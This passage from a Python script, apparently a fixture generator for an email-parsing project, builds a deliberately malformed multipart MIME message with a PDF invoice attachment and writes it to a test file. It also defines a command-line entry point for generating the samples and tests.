              b'Content-Type: multipart/mixed; boundary="----=_NextPart_000_0012_01DB9A3C"\n'
              b"this line is not a header\n"
              b"\n"
              b"------=_NextPart_000_0012_01DB9A3C\n"
              b'Content-Type: text/plain; charset="utf-8"\n'
              b"Content-Transfer-Encoding: 8bit\n"
              b"\n" + text.encode("latin-1") + b"\n"
              b"------=_NextPart_000_0012_01DB9A3C\n"
              b'Content-Type: application/pdf; name="facture.pdf"\n'
              b"Content-Transfer-Encoding: base64\n"
              b'Content-Disposition: attachment; filename="facture.pdf"\n'
              b"\n" + attachment)
    (TESTS / "broken_mime.eml").write_bytes(broken)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--only", choices=["samples", "tests"], help="ne générer qu'un des deux jeux")
    args = parser.parse_args()
    if args.only in (None, "samples"):
        write_samples()
        print(f"exemples écrits dans {SAMPLES}")
    if args.only in (None, "tests"):
        write_tests()
        print(f"fichiers de test écrits dans {TESTS}")


if __name__ == "__main__":
    main()
